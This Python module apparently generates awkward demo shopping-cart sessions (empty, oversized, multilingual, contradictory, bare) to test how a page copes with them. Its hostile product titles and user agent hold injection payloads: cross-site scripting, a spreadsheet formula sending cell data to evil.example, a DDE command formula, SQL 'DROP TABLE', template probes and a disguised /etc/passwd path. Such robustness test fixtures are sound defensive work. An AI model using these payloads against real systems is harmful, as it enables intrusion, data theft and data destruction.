"""Sessions that a page must survive: empty, huge, hostile, contradictory, or hardly there."""

from collections.abc import Iterator
from random import Random

from data.demo.catalogue import Product, Variant
from data.demo.scene import DAY, HOUR, MINUTE, SECOND, Scene
from data.demo.session import Session
from data.demo.shoppers import Shopper, new_visitor
from data.demo.shopping import chance_to_buy, shop
from data.demo.stores import STORES, Store
from data.demo.stories import AWKWARD, Awkward
from data.terms import SessionType

_SCRIPTS = (
    ("شاي أخضر بالنعناع ١٠٠ غرام", "أخضر"),
    ("כוס קרמיקה בעבודת יד", "כחול / גדול"),
    ("抹茶茶碗「薄雲」手びねり", "白"),
    ("ชาอู่หลงดอกหอมหมื่นลี้ เชียงราย", "๕๐ กรัม"),
    ("🍵 Matcha 👩🏽‍🍳 starter 🇯🇵 set ✨", "🟢"),
    ("Cafe\u0301 cre\u0300me, Z\u0335a\u0336l\u0337g\u0338o\u0334\u0301\u0302\u0303 n\u0303", None),
)
_HOSTILE = (
    "<script>alert('cart')</script>",
    '<img src=x onerror="alert(1)"> <b>Bold jacket</b>',
    '=HYPERLINK("https://evil.example/?t="&A1,"Refund")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "**Bold** [free shipping](javascript:alert(1)) `code` :red[sale] $x^2$",
    "Robert'); DROP TABLE sessions;--",
    'Comma, "quote"; semi\ttab\nand a second line',
    "{{7*7}} ${7*7} %s %n",
    "../../etc/passwd\u202egpj.exe",
)
_HOSTILE_AGENT = '"><svg onload=alert(1)> Mozilla/5.0 (Windows NT 10.0; Win64; x64) Firefox/999.0'
_LONG_TITLE = (
    "Fjellvind 3L Shell Jacket for Ski Touring, Trekking and Everyday Rain, Waterproof to "
    "20,000 mm with Taped Seams, Helmet-compatible Hood, Pit Zips, Recycled Lining and "
    "Last Season’s Colour, While Stocks Last"
)


def awkward_sessions(scene: Scene, rng: Random) -> Iterator[Session]:
    """Every awkward session, one to a few weeks old."""
    yield _empty(scene, rng)
    yield _forty_lines(scene, rng)
    yield _titled(scene, rng, "kumo", Awkward.SCRIPTS, 9, _SCRIPTS)
    long = _LONG_TITLE[:200]
    yield _titled(scene, rng, "northtrail", Awkward.LONG_TITLE, 4, ((long, "Moss / L"),))
    yield _titled(
        scene, rng, "northtrail", Awkward.HOSTILE, 6, tuple((title, title) for title in _HOSTILE)
    )
    yield _bare(scene)
    yield _disagreeing(scene, rng)
    yield from _in_two_stores(scene, rng)


def _session(scene: Scene, rng: Random, store: Store, name: Awkward, days: int) -> Session:
    shopper = new_visitor(store, rng).arrives(rng)
    started = scene.now - days * DAY - rng.randrange(6 * HOUR)
    return Session(scene, store, shopper, AWKWARD[name], started, scene.now)


def _empty(scene: Scene, rng: Random) -> Session:
    store = STORES["northtrail"]
    session = _session(scene, rng, store, Awkward.EMPTY, 2)
    product = store.product("Merino Beanie")
    session.begin(product, product.variants[0], 1)
    session.remove(session.at + 70_418, session.lines[product.product_id])
    session.expire()
    return session


def _forty_lines(scene: Scene, rng: Random) -> Session:
    store = STORES["northtrail"]
    session = _session(scene, rng, store, Awkward.FORTY_LINES, 11)
    first, *others = rng.sample(store.products, 40)
    session.begin(first, rng.choice(first.variants), 1)
    for product in others:
        pause = rng.randrange(4 * SECOND, 3 * MINUTE)
        session.add(session.at + pause, product, rng.choice(product.variants), rng.randrange(1, 4))
    session.expire()
    return session


def _titled(
    scene: Scene,
    rng: Random,
    store: str,
    name: Awkward,
    days: int,
    titles: tuple[tuple[str, str | None], ...],
) -> Session:
    """A cart of products that only this session knows, by title and variant."""
    session = _session(scene, rng, STORES[store], name, days)
    if name is Awkward.HOSTILE:
        seen = session.shopper
        session.shopper = Shopper(
            seen.visitor_id, SessionType.DESKTOP, _HOSTILE_AGENT, seen.ip, seen.country
        )
    for number, (title, kind) in enumerate(titles, start=1):
        identity = str(9_000_000_000_000 + 100 * days + number)
        variant = Variant(kind, f"X{days}-{number:02d}")
        product = Product(identity, title, 1_200 + 350 * number, (variant,), 0.0, 10)
        if number == 1:
            session.begin(product, variant, 1)
        else:
            session.add(session.at + rng.randrange(9 * SECOND, MINUTE), product, variant, 1)
    session.expire()
    return session


def _bare(scene: Scene) -> Session:
    nobody = Shopper(None, SessionType.UNKNOWN, None, None, None)
    started = scene.now - 5 * DAY - 7 * HOUR - 1_234_567
    store = STORES["northtrail"]
    return Session(scene, store, nobody, AWKWARD[Awkward.BARE], started, scene.now)


def _disagreeing(scene: Scene, rng: Random) -> Session:
    """The shop's platform kept the value from before a line was taken out."""
    store = STORES["northtrail"]
    session = _session(scene, rng, store, Awkward.DISAGREES, 3)
    pack, flask = store.product("Talus 28 Daypack"), store.product("Vacuum Flask 0.75 l")
    session.begin(pack, pack.variants[0], 1)
    session.add(session.at + 95_206, flask, flask.variants[1], 2)
    before = session.value
    session.remove(session.at + 40_733, session.lines[flask.product_id])
    session.expire()
    session.recorded_value = before
    return session


def _in_two_stores(scene: Scene, rng: Random) -> Iterator[Session]:
    for name, days in (("northtrail", 7), ("kumo", 8)):
        session = _session(scene, rng, STORES[name], Awkward.TWO_STORES, days)
        shop(session, rng, chance_to_buy(session, returning=False))
        yield session
